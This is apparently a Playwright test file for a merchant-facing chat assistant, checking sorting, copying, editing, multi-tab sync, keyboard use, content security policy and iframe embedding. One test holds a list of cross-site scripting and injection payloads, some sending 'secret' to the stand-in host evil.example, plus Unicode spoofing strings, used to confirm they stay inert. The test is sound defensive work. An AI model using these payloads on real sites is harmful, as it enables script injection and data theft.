"""What a merchant does with answers in a real browser: sort, copy, ask again, edit, follow up, share; strings that attack come to nothing."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from conftest import Served, Watched
from test_chat import ASK, NARROW, ask

expect = pytest.importorskip("playwright.sync_api", reason="playwright is not installed").expect

pytestmark = pytest.mark.browser

ATTACKS = (
    "<script>window.hit=1</script>", '"><svg/onload=window.hit=1>', "<img src=x onerror=window.hit=1>", "<a href=javascript:window.hit=1>x</a>",
    "javascript:window.hit=1//", "'-window.hit-'", "{{constructor.constructor('window.hit=1')()}}", "${window.hit=1}",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "</textarea><script>window.hit=1</script>", "<details open ontoggle=window.hit=1>", "<div hx-get=/sign-out hx-trigger=load>",
    "<div data-starter='Delete everything'>", "![x](https://evil.example/?q=secret)", "<img src=https://evil.example/?q=secret>",
    "<style>@import 'https://evil.example/'</style>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>x", "\u202etxt.exe", "pass\u200bword", "\ufeff\u2066admin\u2069",
    "<math><mtext></table><mglyph><style><img src=x onerror=window.hit=1>",
)  # fmt: skip


def done(page: Any, n: int = 1) -> Any:
    run = page.locator(".run").nth(n - 1)
    run.locator('.foot:not([data-state="running"]):not([data-state="queued"])').wait_for()
    return run


@contextmanager
def watching(chromium: Any, served: Served) -> Iterator[Any]:
    made = Watched(chromium, served.address, viewport={"width": 1280, "height": 900})
    yield made.page
    made.context.close()
    assert [fault for fault in made.faults if "autofocusing" not in fault] == []  # a frame may not take the focus from the page around it


def column(page: Any, n: int) -> list[str]:
    return [cell.inner_text() for cell in page.locator(f".answer tbody td:nth-child({n})").all()]


def test_a_table_is_sorted_by_figures_and_by_words(watched: Any) -> None:
    page = watched.sign_in()
    ask(page, ASK)
    page.get_by_role("button", name="Net sales").click()
    assert column(page, 3) == ["€2,024.00", "€1,694.00", "€1,334.40", "€98.00"]
    page.get_by_role("button", name="Net sales").click()
    assert column(page, 3) == ["€98.00", "€1,334.40", "€1,694.00", "€2,024.00"]
    assert page.locator(".answer th[aria-sort=ascending]").count() == 1
    page.get_by_role("button", name="Product", exact=True).focus()
    page.keyboard.press("Enter")
    assert column(page, 1)[:2] == ["⟨U+202E⟩gnippart Mug", "Blue Ceramic Mug"]


@pytest.mark.parametrize("watched", [{"permissions": ["clipboard-read", "clipboard-write"]}], indirect=True)
def test_a_table_and_a_link_are_copied(watched: Any) -> None:
    page = watched.sign_in()
    ask(page, ASK)
    page.locator("[data-copy-table]").click()
    page.get_by_text("Copied").first.wait_for()
    assert page.evaluate("navigator.clipboard.readText()").splitlines()[1] == "Blue Ceramic Mug\t184\t€2,024.00\t31.4"
    page.get_by_role("button", name="Copy link").click()
    page.wait_for_function("navigator.clipboard.readText().then((text) => text.includes('#run-'))")
    page.goto(page.evaluate("navigator.clipboard.readText()"))
    page.get_by_text("Four products sold 408 units").wait_for()


def test_a_request_is_edited_and_sent_again(watched: Any, panel: Any) -> None:
    page = watched.sign_in()
    ask(page, "How did sales go?")
    done(page)
    page.get_by_role("button", name="Edit").click()
    box = page.get_by_label("Your request")
    expect(box).to_have_value("How did sales go?")
    expect(box).to_be_focused()
    page.keyboard.type(" By week")
    page.keyboard.press("Enter")
    expect(page.get_by_role("navigation", name="Versions of this request")).to_contain_text("2 of 2")
    done(page).get_by_role("button", name="Ask again").click()
    done(page, 2)
    assert [asked.text for asked in panel.world.service.asked] == ["How did sales go?", "How did sales go? By week", "How did sales go? By week"]
    assert len({asked.thread for asked in panel.world.service.asked}) == 1


def test_what_to_ask_next_is_asked_with_a_click_in_the_same_thread(watched: Any, panel: Any) -> None:
    page = watched.sign_in()
    ask(page, "How did sales go?")
    page.get_by_role("button", name="Which customers bought it?").click()
    done(page, 2)
    first, second = panel.world.service.asked
    assert second.text == "Which customers bought it?" and second.thread == first.thread


def test_the_page_one_came_from_is_a_chip_that_can_be_taken_away(watched: Any, panel: Any) -> None:
    page = watched.sign_in()
    page.goto('/new?text=How+many+are+left%3F&context={"product_id":"p1","x":"y"}')
    assert page.get_by_label("Your request").input_value() == "How many are left?" and panel.world.service.asked == []
    page.locator(".chip-line", has_text="Blue Ceramic Mug").wait_for()
    page.get_by_label("Your request").press("Enter")
    done(page)
    page.get_by_role("button", name="Ask about the whole shop instead").click()
    ask(page, "And in all?")
    done(page, 2)
    assert [asked.context for asked in panel.world.service.asked] == [{"product_id": "p1"}, {}]


def test_how_it_was_done_is_there_on_demand(watched: Any) -> None:
    page = watched.sign_in()
    ask(page, "How did sales go?")
    page.locator(".how summary").focus()
    page.keyboard.press("Enter")
    page.get_by_role("cell", name="plain code needs no model").wait_for()


def test_what_is_asked_in_one_tab_comes_to_stand_in_the_other_below_what_is_read_there(watched: Any) -> None:
    page = watched.sign_in()
    ask(page, ASK)
    done(page)
    other = watched.context.new_page()
    other.goto(page.url)
    done(other)
    box = other.get_by_label("Your request")
    box.fill("half a tho")
    first = other.locator(".run").first
    place = first.evaluate("(run) => run.getBoundingClientRect().top + window.scrollY")
    ask(page, "explain it")
    done(page, 2)
    done(other, 2)
    expect(other.locator(".run .said")).to_have_text([ASK, "explain it"])
    expect(box).to_have_value("half a tho")
    expect(box).to_be_focused()
    assert first.evaluate("(run) => run.getBoundingClientRect().top + window.scrollY") == place, "what stood there stays where it was"
    box.fill("explain it again")
    other.keyboard.press("Enter")
    done(other, 3)
    expect(other.locator(".run")).to_have_count(3)
    done(page, 3)
    expect(page.locator(".run")).to_have_count(3)


def test_looking_for_what_is_asked_elsewhere_fails_without_a_word(watched: Any) -> None:
    page = watched.sign_in()
    ask(page, ASK)
    done(page)
    page.reload()
    done(page)
    told = {"hx-retarget": "#notices", "hx-reswap": "beforeend"}
    page.route("**/after/*", lambda route: route.fulfill(status=503, headers=told, body='<div class="notice" data-notice>Not now</div>'))
    for _ in range(2):  # the second one is sent when the first has been dealt with
        with page.expect_response("**/after/*"):
            page.evaluate("window.dispatchEvent(new Event('focus'))")
    expect(page.locator("#notices [data-notice]")).to_have_count(0)
    page.unroute("**/after/*")
    ask(page, "explain it")
    done(page, 2)
    assert [fault for fault in watched.faults if "503" not in fault] == []
    watched.faults.clear()  # the browser writes down that it was refused


def test_two_tabs_of_one_thread_both_show_how_it_stands(watched: Any, panel: Any) -> None:
    panel.world.service._hold = True
    page = watched.sign_in()
    ask(page, ASK)
    page.wait_for_selector('[data-step="s1"][data-state="running"]')
    other = watched.context.new_page()
    other.goto(page.url)
    other.wait_for_selector('[data-step="s1"][data-state="running"]')
    panel.release()
    for tab in (page, other):
        tab.locator(".change-set").wait_for()
        done(tab)
    assert page.locator(".results").inner_text() == other.locator(".results").inner_text()


def test_a_person_with_nothing_but_a_keyboard_asks_decides_and_follows_up(watched: Any, panel: Any) -> None:
    page = watched.sign_in()
    page.keyboard.type(ASK)
    page.keyboard.press("Enter")
    done(page)
    page.locator(".change-set .pick input").nth(1).wait_for()
    for _ in range(60):  # backwards from the box to the first tick of the proposal
        page.keyboard.press("Shift+Tab")
        if page.evaluate("document.activeElement.matches('.change-set input[name=items]')"):
            break
    page.keyboard.press("Space")
    page.keyboard.press("Tab")
    while not page.evaluate("document.activeElement.matches('.approve')"):
        page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent.trim()") == "Approve 2 selected"
    page.keyboard.press("Enter")
    page.locator(".item.applied").nth(1).wait_for()
    assert page.evaluate("document.activeElement.tagName") == "H2"


@pytest.mark.parametrize("watched", [{}, NARROW, {"viewport": {"width": 1024, "height": 768}, "color_scheme": "dark"}], indirect=True)
def test_strings_that_attack_are_shown_and_do_nothing(watched: Any, panel: Any) -> None:
    asked_elsewhere: list[str] = []
    watched.page.on("request", lambda request: asked_elsewhere.append(request.url) if not request.url.startswith(panel.address) else None)
    page = watched.sign_in()
    text = "weather " + "\n".join(ATTACKS)
    ask_all(page, text)
    page.reload()
    page.get_by_role("button", name="Edit").click()
    expect(page.get_by_label("Your request")).to_have_value(text)
    shown = page.locator(".said").inner_text()
    assert "⟨U+202E⟩txt.exe" in shown and "pass⟨U+200B⟩word" in shown and "<script>window.hit=1</script>" in shown
    assert page.evaluate("window.hit === undefined") and asked_elsewhere == []
    assert len(panel.world.service.asked) == 1 and page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


def ask_all(page: Any, text: str) -> None:
    page.get_by_label("Your request").fill(text)
    page.keyboard.press("Enter")
    done(page)


def test_nothing_on_a_page_needs_a_policy_looser_than_it_is(watched: Any) -> None:
    page = watched.sign_in()
    ask(page, ASK)
    done(page)
    policy = page.goto(page.url).headers["content-security-policy"]
    assert "unsafe" not in policy and "frame-ancestors 'none'" in policy
    assert page.locator("[style]:not(textarea), [onclick], script:not([src])").count() == 0


# in another page


class _Host(BaseHTTPRequestHandler):
    """An admin page of somebody else's."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(b'<!doctype html><html lang="en"><title>Admin</title><link rel="icon" href="data:,"><button id="b">Ask</button>')

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def host() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Host)
    thread = threading.Thread(target=server.serve_forever, name="host page")
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()
    thread.join()


def test_one_script_tag_puts_the_chat_into_a_page_that_may_hold_it(chromium: Any, tmp_path: Path, host: str) -> None:
    with Served(tmp_path, frame_ancestors=[host]).running() as served:
        served.world.person("Anna")
        anna = served.world.run(served.world.accounts.people.named("anna"))
        path = f"/sign-in/{served.world.run(served.world.accounts.people.link(anna.id))}"
        with watching(chromium, served) as page:
            page.goto(host)
            page.add_script_tag(url=f"{served.address}/embed.js")
            page.locator("#b").focus()
            assert page.evaluate("[storehand.isEnabled(), storehand.isOpen()]") == [True, False]
            page.evaluate("(path) => storehand.open({ prompt: 'How many?', context: { product_id: 'p1' }, session: async () => path })", path)
            frame = page.frame_locator("iframe")
            frame.locator(".chip-line", has_text="Blue Ceramic Mug").wait_for()
            expect(frame.locator(".side.wide")).to_be_hidden()
            frame.get_by_label("Your request").press("Enter")
            frame.locator('.foot[data-state="done"]').wait_for()
            assert page.evaluate("storehand.isOpen()") is True
            page.get_by_role("button", name=re.compile("×")).click()
            expect(page.locator("iframe")).to_be_hidden()
            assert page.evaluate("storehand.isOpen()") is False
            assert page.evaluate("document.activeElement.id") == "b"
        assert [asked.context for asked in served.world.service.asked] == [{"product_id": "p1"}]


def test_a_page_that_may_not_hold_it_gets_nothing(chromium: Any, panel: Any, host: str) -> None:
    context = chromium.new_context()
    page = context.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if "frame-ancestors" in message.text else None)
    page.goto(host)
    page.add_script_tag(url=f"{panel.address}/embed.js")
    assert page.evaluate("storehand.isEnabled()") is False
    with page.expect_console_message(lambda message: "frame-ancestors" in message.text):
        page.evaluate("storehand.open()")
    assert page.frame_locator("iframe").get_by_label("Name").count() == 0 and refused
    context.close()
